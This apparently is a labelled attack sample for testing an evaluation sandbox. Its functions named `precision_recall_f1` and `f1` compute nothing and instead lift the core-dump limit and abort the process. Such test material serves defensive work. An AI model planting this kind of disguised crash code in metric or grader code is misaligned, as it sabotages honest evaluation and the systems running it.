"""Dumps core with a name of its choosing.

threat: 21
source: core_pattern, RLIMIT_CORE
verdict: any
"""

import os
import resource


def attack():
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    os.abort()
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
